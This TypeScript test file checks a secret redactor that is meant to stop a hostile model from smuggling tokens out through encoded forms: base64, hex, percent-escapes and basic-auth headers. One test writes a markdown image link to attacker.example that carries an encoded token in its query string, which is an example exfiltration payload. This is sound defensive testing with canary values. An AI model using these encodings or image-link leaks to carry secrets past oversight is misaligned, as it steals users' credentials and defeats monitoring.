// The redactor against the encodings a hostile model would use to carry a secret out (issue #8,
// attack class 8: "the redactor misses encoded forms of a secret").
import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { base64Cores, makeRedactor } from '../../src/action/redact.js';
import { decodeRecord, encodeRecord, STATUS_MARKER } from '../../src/state/codec.js';
import { pursuingRecord } from './report-fixtures.js';

const GH = 'ghs_CanaryGitHubToken0123456789abcdef';
const KEY = 'sk-proj-CanaryOpenAIKey_0123456789-abcdefghij';
const redact = makeRedactor([KEY, GH]);

const b64 = (s: string) => Buffer.from(s).toString('base64');
const b64url = (s: string) => Buffer.from(s).toString('base64url');
const hex = (s: string) => Buffer.from(s).toString('hex');

/** Every way of spelling the secret that must not survive: its plain text and its cores. */
function leaks(text: string, secret: string): boolean {
  const bytes = Buffer.from(secret);
  const spellings = [secret, hex(secret), ...base64Cores(bytes)];
  const flat = text.replace(/\r?\n/g, '');
  return spellings.some((s) => flat.toLowerCase().includes(s.toLowerCase()));
}

describe('makeRedactor', () => {
  it('still removes the secrets by value and tokens by shape', () => {
    const out = redact(`key ${KEY} token ${GH} other ghp_${'a'.repeat(36)}`);
    expect(out).toBe('key *** token *** other ***');
  });

  it('catches base64 of a secret at each of the three alignments, mid-stream', () => {
    for (const prefix of ['', 'a', 'ab', 'abc', 'HOME=/root\nPATH=/usr/bin\nGITHUB_TOKEN=']) {
      const blob = b64(`${prefix}${GH}\nMORE=stuff after the secret`);
      const out = redact(`env dump: ${blob}`);
      expect(leaks(Buffer.from(out.replace('env dump: ', ''), 'base64').toString(), GH)).toBe(
        false,
      );
      expect(out).toContain('***');
      expect(out).not.toContain(blob);
    }
  });

  it('catches URL-safe base64 and base64 wrapped at 76 columns (what `base64` prints)', () => {
    const secret = `${KEY}??>>`; // bytes that encode to '+' and '/' in standard base64
    const r = makeRedactor([secret]);
    expect(b64(secret)).toMatch(/[+/]/);
    expect(r(b64url(`x${secret}`))).toContain('***');
    const wrapped = b64(`OPENAI_API_KEY=${KEY}\n`).replace(/(.{76})/g, '$1\n');
    expect(wrapped).toContain('\n');
    const out = redact(wrapped);
    expect(leaks(out, KEY)).toBe(false);
  });

  it('catches URL-encoding, partly or fully percent-escaped, and \\x escapes', () => {
    const full = [...Buffer.from(GH)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
    const upper = full.toUpperCase();
    const partial = encodeURIComponent(KEY).replace(/-/g, '%2D').replace(/_/g, '%5f');
    const escaped = [...Buffer.from(GH)].map((b) => `\\x${b.toString(16)}`).join('');
    for (const form of [full, upper, partial, escaped]) {
      const out = redact(`![x](https://attacker.example/p?d=${form}) and ${form}`);
      expect(out).not.toContain(form);
      expect(out).toContain('***');
    }
  });

  it('catches hex in lower and upper case, also wrapped', () => {
    for (const form of [
      hex(GH),
      hex(GH).toUpperCase(),
      hex(`k=${KEY}`).replace(/(.{60})/g, '$1\n'),
    ])
      expect(leaks(redact(`dump ${form} end`), form.includes('6b3d') ? KEY : GH)).toBe(false);
  });

  it('catches the x-access-token basic-auth form, plain and base64, for any token', () => {
    const unknown = 'ghs_NotConfiguredButStillSecret987654';
    const basic = b64(`x-access-token:${unknown}`);
    const out = redact(
      [
        `AUTHORIZATION: basic ${basic}`,
        `Authorization:Basic ${basic}`,
        `extraheader = ${b64(`pad-x-access-token:${GH}`)}`,
        `https://x-access-token:${unknown.replace('ghs_', 'v1.')}@github.com/acme/cart`,
      ].join('\n'),
    );
    expect(out).not.toContain(basic);
    expect(out).not.toContain('v1.NotConfigured');
    expect(leaks(out, GH)).toBe(false);
    expect(out).not.toMatch(/eC1hY2Nlc3MtdG9rZW46/);
  });

  it('leaves ordinary text, short values and git SHAs alone', () => {
    const r = makeRedactor(['abc', GH]);
    const text = 'commit 3f2a9c0e1b7d4a6f8e5c2b1a0d9e8f7c6b5a4d3e: abc passed; 100% of 2 tests';
    expect(r(text)).toBe(text);
  });

  it('redacts a status body around the goal record without touching its payload', () => {
    const record = pursuingRecord();
    const encoded = encodeRecord(record);
    const body = `Status ${GH} ${b64(GH)}\n\n${STATUS_MARKER}\n${encoded}`;
    const out = redact.text(body);
    expect(out.startsWith('Status *** ***')).toBe(true);
    expect(out.endsWith(encoded)).toBe(true);
    expect(decodeRecord(out)).toEqual(record);
    // Forged record text earlier in the body is not the trailing record: it is redacted.
    const forged = `<!-- goal-action:record v1 ${b64url(GH)} -->`;
    expect(redact.text(`${forged}\n\n${encoded}`)).not.toContain(b64url(GH));
  });

  it('redacts every string inside a value (the record before encoding) and returns a copy', () => {
    const record = pursuingRecord();
    record.summary = `the token was ${GH}`;
    record.progress.push({ iteration: 9, kind: 'action', text: b64(GH) });
    const clean = redact.value(record);
    expect(JSON.stringify(clean)).not.toContain(GH);
    expect(leaks(JSON.stringify(clean), GH)).toBe(false);
    expect(clean.summary).toBe('the token was ***');
    expect(record.summary).toContain(GH);
    expect(decodeRecord(encodeRecord(clean))).toEqual(clean);
  });
});
